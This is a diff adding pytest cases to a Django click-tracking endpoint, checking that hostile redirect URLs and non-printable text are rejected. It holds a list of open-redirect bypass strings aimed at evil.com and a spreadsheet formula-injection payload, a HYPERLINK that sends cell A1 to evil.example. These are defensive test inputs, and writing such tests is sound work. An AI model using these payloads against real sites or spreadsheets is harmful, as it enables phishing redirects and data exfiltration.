@@ -156,12 +156,30 @@ def test_track_without_pid_is_400_and_records_nothing(api_client, query):
     assert written_rows() == NOTHING_WRITTEN
 
 
-def test_track_parameter_too_long_is_400(api_client):
-    response = api_client.get("/track", {"pid": "p" * 256})
+@pytest.mark.parametrize(
+    ("name", "length"),
+    [("pid", 257), ("c", 257), ("af_sub5", 257), ("deep_link_value", 2049)],
+)
+def test_track_parameter_too_long_is_400(api_client, name, length):
+    response = api_client.get("/track", {"pid": "p", name: "p" * length})
 
     assert response.status_code == 400
-    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [("pid", "max_length")]
+    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [(name, "max_length")]
     assert written_rows() == NOTHING_WRITTEN
+
+
+def test_track_parameters_of_the_maximum_length_are_stored(api_client):
+    query = dict.fromkeys(("pid", "c", "af_adset", "af_ad", "clickid", "af_sub1"), "p" * 256)
+    query["deep_link_value"] = "d" * 2048
+    redirect = "https://play.example.com/" + "r" * (2048 - 25)
+
+    response = api_client.get("/track", {**query, "redirect": redirect})
+
+    assert response.status_code == 302
+    assert Click.objects.values_list(
+        "media_source", "campaign", "adset", "ad", "network_click_id", "sub1", "deep_link_value"
+    ).get() == ("p" * 256,) * 6 + ("d" * 2048,)
+    assert len(Click.objects.get().redirect_url) == 2048
 
 
 def test_track_nul_in_a_parameter_is_400(api_client):
@@ -267,3 +285,120 @@ def test_attribute_from_click_keeps_the_first_attribution(api_client):
 
     assert first == second
     assert PlayerAttribution.objects.get().media_source == "tiktok"
+
+
+# --- Hostile redirect URLs: 400, never a 500 ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "redirect=http://%5B::1",  # unclosed IPv6 bracket: urlsplit raises
+        "redirect=http://%5Bnotip%5D/",  # brackets around a non-address: urlsplit raises
+        "redirect=https://play.example.com%EF%BC%83@evil.com",  # fullwidth # (NFKC): raises
+        "redirect=https://play.example.com%EF%BC%8Fevil.com/",  # fullwidth /
+        "redirect=https://play%EF%BC%8Eexample%EF%BC%8Ecom/",  # fullwidth dots
+        "redirect=https://play.example.com%E3%80%82/",  # ideographic full stop
+        "redirect=https://pl%C3%A4y.example.com/",  # non-ASCII host
+        "redirect=https://play.example.com/%C3%A9",  # non-ASCII anywhere: send it percent-encoded
+        "redirect=https://play.example.com%5C@evil.com/",  # backslash
+        "redirect=https:%5C%5Cplay.example.com/",
+        "redirect=https://evil.com%5C.play.example.com/",
+        "redirect=https://%5B::1%5D:80/",  # an address not in the allow-list
+        "redirect=https://%5B::1%5D:x/",  # a malformed port after an IPv6 host
+        "redirect=https://:443/",  # an empty host
+        "redirect=https://@play.example.com/",  # empty userinfo
+        "redirect=https://play.example.com%09/",  # tab, stripped by browsers
+        "redirect=https://play.example.com./",  # a trailing dot is another host name
+        "redirect=https://play.example.com%00.evil.com/",
+        "redirect=https://play.example.com%20@evil.com/",
+        "redirect=https://play%252Eexample.com/",  # percent-encoded in the host
+    ],
+)
+def test_track_hostile_redirect_is_400_and_records_nothing(api_client, query):
+    response = api_client.get(f"/track?pid=x&{query}")
+
+    assert response.status_code == 400, response.content
+    body = response.json()
+    assert body["code"] == "validation_error"
+    assert [e["field"] for e in body["errors"]] == ["redirect"]
+    assert written_rows() == NOTHING_WRITTEN
+
+
+@override_settings(TRACK_REDIRECT_ALLOWED_HOSTS=["[::1]:8000", "play.example.com"])
+@pytest.mark.parametrize(
+    "target", ["http://[::1]/x", "http://[::1]:9000/x", "https://play.example.com:/x"]
+)
+def test_track_redirects_to_an_allowed_ipv6_host_and_an_empty_port(api_client, target):
+    response = api_client.get("/track", {"pid": "google", "redirect": target})
+
+    assert response.status_code == 302
+    assert response["Location"] == target
+
+
+# --- Text that reaches report files and spreadsheets --------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["pid", "c", "af_adset", "af_ad"])
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
+def test_track_report_keys_starting_with_a_formula_prefix_are_400(api_client, name, prefix):
+    value = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"open")'
+    response = api_client.get("/track", {"pid": "p", name: value})
+
+    assert response.status_code == 400
+    assert response.json()["code"] == "validation_error"
+    assert response.json()["errors"] == [
+        {"field": name, "code": "formula_prefix", "message": "Must not start with =, +, - or @."}
+    ]
+    assert written_rows() == NOTHING_WRITTEN
+
+
+def test_track_formula_characters_inside_a_value_and_in_other_parameters_are_kept(api_client):
+    query = {
+        "pid": "net=work",
+        "c": "sale +50% @home",
+        "clickid": "-123",
+        "af_sub1": "=not_a_report_key",
+        "deep_link_value": "@level/42",
+    }
+
+    response = api_client.get("/track", query)
+
+    assert response.status_code == 200
+    assert Click.objects.values_list(
+        "media_source", "campaign", "network_click_id", "sub1", "deep_link_value"
+    ).get() == ("net=work", "sale +50% @home", "-123", "=not_a_report_key", "@level/42")
+
+
+@pytest.mark.parametrize("name", ["pid", "c", "af_ad", "clickid", "deep_link_value", "af_sub3"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a\tb",
+        "a\nb",
+        "a\rb",
+        "\tleading_tab",
+        "a\x7fb",
+        "a\x85b",  # NEL
+        "a\u200bb",  # zero-width space (format)
+        "a\u202eb",  # right-to-left override
+        "a\u2028b",  # line separator
+        "a\ufeffb",  # byte order mark
+    ],
+)
+def test_track_text_that_is_not_printable_is_400(api_client, name, text):
+    response = api_client.get("/track", {"pid": "p", name: text})
+
+    assert response.status_code == 400
+    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [(name, "invalid_text")]
+    assert written_rows() == NOTHING_WRITTEN
+
+
+def test_track_printable_unicode_and_spaces_are_stored(api_client):
+    response = api_client.get("/track", {"pid": "réseau social", "c": "été 🎮 夏"})
+
+    assert response.status_code == 200
+    assert Click.objects.values_list("media_source", "campaign").get() == (
+        "réseau social",
+        "été 🎮 夏",
+    )
